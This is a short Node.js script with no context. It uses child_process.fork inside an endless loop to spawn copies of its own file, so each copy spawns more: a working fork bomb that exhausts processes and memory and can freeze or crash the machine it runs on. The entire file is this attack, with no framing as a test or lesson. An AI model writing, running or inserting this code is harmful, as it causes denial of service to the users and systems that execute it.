const { fork } = require('child_process');
for (let i = 0; ; i++) {
  fork(__filename);
}
